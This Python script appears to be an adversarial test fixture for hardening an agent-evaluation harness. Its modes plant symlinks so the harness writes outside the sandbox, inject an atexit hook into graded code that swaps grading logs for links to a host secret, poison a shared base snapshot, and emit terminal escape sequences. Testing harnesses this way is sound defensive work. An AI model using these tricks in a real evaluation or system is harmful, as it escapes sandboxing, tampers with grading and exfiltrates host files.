"""An agent that aims the harness's own writes and reads at host files: ``link_planter.py MODE RUN_DIR [TARGET]``.

Every mode also appends a line to README.md (a patch that resolves nothing), and prints what it did.

- ``plant TARGET_DIR``: the files the harness writes in the run dir after the arm (``verify.log``,
  ``verify-junit.xml``, ``env.log``, ``meter-calls.jsonl``, ``trajectory.atif.json``) made symlinks to
  ``TARGET_DIR/<name>`` (a stand-in ``authorized_keys``): a harness that follows them writes there, outside the sandbox.
- ``swap SECRET``: the patch makes the package, imported by the graded tests, swap the grading run's
  ``verify.log`` and ``verify-junit.xml`` for links to ``SECRET`` at exit (its stdout is ``verify.log``):
  a harness that follows them copies ``SECRET`` into the out dir.
- ``chain SECRET``: ``swap``, and ``verify-junit.xml`` in the run dir a link into the cell's base snapshot
  (read-only to the sandbox, found through the workspace's ``alternates``): a harness that follows both
  copies ``SECRET`` into the snapshot every later trial on that base reads.
- ``names LENGTH``: a file whose name is not UTF-8 (with an escape sequence in it), one whose relative path
  is ``LENGTH`` bytes long, escape sequences on stderr and in the served model it reports; exits 1.
"""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path

HARNESS_FILES = ("verify.log", "verify-junit.xml", "env.log", "meter-calls.jsonl", "trajectory.atif.json")
#: Title, clear screen, cursor home: what a raw terminal would act on.
ESCAPES = "\x1b]0;pwned-title\x07\x1b[2J\x1b[H"

SWAP = '''

def _arena_swap_logs():  # the graded code: at exit, its own grading logs become links to a host file
    import os
    # Its stdout is the grading run's verify.log: the folder of both logs.
    folder = os.path.dirname(os.readlink("/proc/self/fd/1"))
    for name in ("verify-junit.xml", "verify.log"):
        path = os.path.join(folder, name)
        try:
            os.unlink(path)
        except OSError:
            pass
        os.symlink({secret!r}, path)


import atexit as _arena_atexit

_arena_atexit.register(_arena_swap_logs)
'''


def snapshot_file() -> Path:
    """A file of the cell's base snapshot: its objects are the workspace's alternates."""
    alternates = Path(".git/objects/info/alternates").read_text().split()[0]
    return Path(alternates).parent / "HEAD"


def main() -> None:
    mode, run_dir = sys.argv[1], Path(sys.argv[2])
    with open("README.md", "a") as readme:
        readme.write("more\n")
    if mode == "plant":
        target = Path(sys.argv[3])
        for name in HARNESS_FILES:
            (run_dir / name).unlink(missing_ok=True)
            (run_dir / name).symlink_to(target / name)
    elif mode in ("swap", "chain"):
        with open("calc/ops.py", "a") as module:
            module.write(SWAP.format(secret=sys.argv[3]))
        if mode == "chain":
            (run_dir / "verify-junit.xml").symlink_to(snapshot_file())
    elif mode == "names":
        length = int(sys.argv[3])
        (run_dir / os.fsdecode(b"caf\xe9-\xff-\x1b[31m.log")).write_bytes(b"not UTF-8, by name\n")
        parts, left = [], length - len("end.log")
        while left > 0:
            part = "p" * min(230, left - 1)
            parts.append(part)
            left -= len(part) + 1
        deep = run_dir.joinpath(*parts)
        deep.mkdir(parents=True)
        (deep / "end.log").write_text("a long path\n")
        usage = os.environ.get("ARENA_USAGE_FILE")
        if usage:
            Path(usage).write_text(json.dumps({"model": f"{ESCAPES}evil-model", "input_tokens": 1}))
        sys.stderr.write(f"{ESCAPES}the agent's last words\n")
        sys.exit(1)
    print(f"{mode}: done")


if __name__ == "__main__":
    main()
